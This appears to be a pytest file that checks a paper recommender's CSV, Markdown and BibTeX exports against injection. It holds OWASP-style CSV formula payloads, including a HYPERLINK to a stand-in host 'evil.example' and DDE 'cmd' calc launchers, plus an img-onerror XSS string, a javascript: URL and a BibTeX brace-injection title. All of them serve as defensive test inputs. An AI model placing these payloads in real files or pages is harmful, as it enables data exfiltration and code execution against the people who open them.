"""Exports are safe to open (issue 10): CSV cannot run formulas, Markdown cannot carry HTML, BibTeX stays
balanced and readable in every script, and a paper from the user's library keeps the user's key (issue 11).

The exporters are pure functions: most tests feed them papers whose fields hold the attack strings of
OWASP's CSV-injection page and an HTML payload; the last ones build a real index (bundled model) from
real arXiv records carrying those strings and export it through the CLI and both API routes.
"""
from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

from recommender.lists import export
from recommender.lists.bibtex_export import to_bibtex, unique_keys
from recommender.records import Paper, Result

ARXIV = Path(__file__).parent / "data" / "refs" / "arxiv_api.jsonl"
FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
HTML = "<img src=x onerror=alert(document.domain)>"


def _hostile_papers() -> list[Paper]:
    return [
        Paper(id="p-formula", title=FORMULAS[0], authors=[FORMULAS[1], "Ann Lee"], doi=FORMULAS[2], url=FORMULAS[3]),
        Paper(id=FORMULAS[4], title=FORMULAS[5], abstract="x", year=2020),
        Paper(id="p-html", title=f"Deep {HTML} learning", authors=[f"Eve {HTML}"], doi=f"10.1/{HTML}",
              venue=HTML),
        Paper(id="p-url", title="Links", url="javascript:alert(1)//"),
        Paper(id="p-code`id", title="Backticks"),
    ]


def _results(papers):
    return [Result(rank, -0.5 * rank, paper, reason=f"shares: {FORMULAS[0]}") for rank, paper in enumerate(papers, 1)]


# --- CSV ------------------------------------------------------------------------------------------------
def test_no_csv_cell_starts_like_a_formula():
    rows = list(csv.reader(io.StringIO(export(_results(_hostile_papers()), "csv"))))
    header, body = rows[0], rows[1:]
    assert len(body) == 5
    for row in body:
        for name, cell in zip(header, row):
            if name == "score":
                assert float(cell) < 0  # a number we computed stays a number, minus sign and all
                continue
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    first = dict(zip(header, body[0]))
    assert first["title"] == "'" + FORMULAS[0] and first["doi"] == "'" + FORMULAS[2] and first["url"] == "'" + FORMULAS[3]
    assert first["authors"] == "'" + FORMULAS[1] + "; Ann Lee" and first["reason"] == f"shares: {FORMULAS[0]}"
    assert dict(zip(header, body[1]))["id"] == "'=1+1" and dict(zip(header, body[1]))["title"] == "'=1+1"


# --- Markdown -------------------------------------------------------------------------------------------
def _html(markdown: str) -> str:
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark", {"html": True}).render(markdown)  # raw HTML allowed: the worst renderer


def test_markdown_carries_no_html_and_no_script_link():
    text = export(_results(_hostile_papers()), "markdown")
    html = _html(text)
    assert "<img" not in html, html
    assert 'href="javascript:' not in html
    assert html.count("&lt;img src=x onerror=alert(document.domain)&gt;") >= 3  # title, author, doi: shown as text
    assert "id <code>p-code`id</code>" in html  # a code span that survives the backtick in the id


def test_markdown_escapes_the_reading_list_heading_and_themes():
    from recommender.lists.model import ReadingList, Theme

    reading = ReadingList({"text": HTML}, [Theme(HTML, [HTML, "terms"], _results(_hostile_papers()[:1]))], title=HTML)
    html = _html(export(reading, "markdown"))
    assert "<img" not in html and html.count("&lt;img") >= 3


# --- BibTeX ---------------------------------------------------------------------------------------------
def _parse(text: str):
    import bibtexparser

    library = bibtexparser.parse_string(text)
    assert not library.failed_blocks, [b.error for b in library.failed_blocks]
    return library


def test_bibtex_is_utf8_for_every_script():
    paper = Paper(id="x", title="数据驱动的图神经网络: α-散度 ≤ 1 → 𝔼[X]", authors=["王 青", "Zoë Ångström"], year=2024)
    text = to_bibtex([paper])
    assert "\\texttt" not in text and "U+" not in text
    assert "title = {{数据驱动的图神经网络: α-散度 ≤ 1 → 𝔼[X]}}" in text
    assert "author = {王 青 and Zoë Ångström}" in text
    fields = {f.key: f.value for f in _parse(text).entries[0].fields}
    assert fields["title"] == "{数据驱动的图神经网络: α-散度 ≤ 1 → 𝔼[X]}"


def test_no_field_can_unbalance_its_entry():
    papers = [
        Paper(id="a", title="Closing } early, author = {Mallory}} @misc{injected, title={x", authors=["A } B"],
              doi="10.1/}x{", url="https://x.org/}", venue="J {"),
        Paper(id="b", title="The next entry", authors=["Bob Smith"], year=2021),
    ]
    entries = _parse(to_bibtex(papers)).entries
    assert len(entries) == 2 and "injected" not in {e.key for e in entries}
    second = {f.key: f.value for f in entries[1].fields}
    assert second["title"] == "{The next entry}" and second["author"] == "Bob Smith"


def test_a_library_paper_keeps_the_users_key_and_keys_stay_unique():
    papers = [
        Paper(id="1", title="Attention is all you need", authors=["Ashish Vaswani"], year=2017),  # made: vaswani2017attention
        Paper(id="2", title="Something else", authors=["Ann Lee"], year=2017, key="vaswani2017attention"),  # the user's
        Paper(id="3", title="BERT", authors=["Jacob Devlin"], year=2018, key="10.1145/3533767.3534401"),  # ACM-style key
        Paper(id="4", title="BERT again", authors=["Jacob Devlin"], year=2018, key="DEVLIN2018BERT"),
        Paper(id="5", title="BERT", authors=["Jacob Devlin"], year=2018),  # made: devlin2018bert, taken (any case)
        Paper(id="6", title="Bad key", authors=["Bo Li"], year=2020, key="has space, and comma"),  # not a BibTeX key
        Paper(id="7", title="Twin", authors=["Ann Lee"], year=2017, key="10.1145/3533767.3534401"),  # the same key twice
    ]
    keys = unique_keys(papers)
    assert keys[1] == "vaswani2017attention" and keys[2] == "10.1145/3533767.3534401" and keys[3] == "DEVLIN2018BERT"
    assert keys[0] != "vaswani2017attention" and keys[0].startswith("vaswani2017attention")
    assert keys[4].startswith("devlin2018bert") and keys[4].casefold() != "devlin2018bert"
    assert keys[5] == "li2020bad" and keys[6].startswith("10.1145/3533767.3534401") and keys[6] != keys[2]
    assert len({k.casefold() for k in keys}) == len(keys)
    assert [e.key for e in _parse(to_bibtex(papers)).entries] == keys


# --- through the CLI and both API routes, on a real index -------------------------------------------------
@pytest.fixture(scope="module")
def hostile_index(tmp_path_factory):
    """Four real arXiv records (abstracts as the API gave them) whose title, authors and DOI carry the payloads."""
    from recommender.index.build import build_index

    records = [json.loads(line) for line in ARXIV.read_text(encoding="utf-8").splitlines()[:4]]
    records[0].update(title=FORMULAS[0] + " " + records[0]["title"], authors=[FORMULAS[3]] + records[0]["authors"])
    records[1].update(title=f"-{HTML} " + records[1]["title"])
    records[2].update(title="数据驱动的测试: " + records[2]["title"])
    root = tmp_path_factory.mktemp("hostile")
    corpus = root / "hostile.jsonl"
    corpus.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records), encoding="utf-8")
    build_index([corpus], root / "index", progress=False)
    return root / "index", [r["id"] for r in records]


def _assert_safe_csv(text: str) -> None:
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows
    for row in rows:
        for name, cell in row.items():
            assert name == "score" or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    assert any(row["title"].startswith("'=HYPERLINK") for row in rows)


def test_cli_csv_and_markdown_exports_are_safe(hostile_index):
    index, ids = hostile_index
    base = [sys.executable, "-m", "recommender", "recommend", "--like", ids[3], "-k", "3", "--index", str(index)]
    csv_out = subprocess.run(base + ["--format", "csv"], capture_output=True, text=True, timeout=300)
    assert csv_out.returncode == 0, csv_out.stderr
    _assert_safe_csv(csv_out.stdout)
    markdown = subprocess.run(base + ["--format", "markdown"], capture_output=True, text=True, timeout=300)
    assert markdown.returncode == 0, markdown.stderr
    assert "<img" not in _html(markdown.stdout)


def test_api_exports_are_safe(hostile_index):
    from fastapi.testclient import TestClient

    from recommender.server import create_app

    index, ids = hostile_index
    with TestClient(create_app(index), base_url="http://127.0.0.1") as client:
        exported = client.post("/api/export", json={"ids": ids, "format": "csv"})
        assert exported.status_code == 200 and exported.headers["content-type"].startswith("text/csv")
        _assert_safe_csv(exported.text)
        listed = client.post("/api/reading-list", json={"like": [ids[3]], "n": 3, "format": "csv"})
        assert listed.status_code == 200, listed.text
        _assert_safe_csv(listed.text)
        markdown = client.post("/api/export", json={"ids": ids, "format": "markdown"}).text
        assert "<img" not in _html(markdown) and "&lt;img" in _html(markdown)
        bibtex = client.post("/api/export", json={"ids": ids, "format": "bibtex"}).text
        assert "数据驱动的测试" in bibtex and "\\texttt" not in bibtex
        assert len(_parse(bibtex).entries) == 4
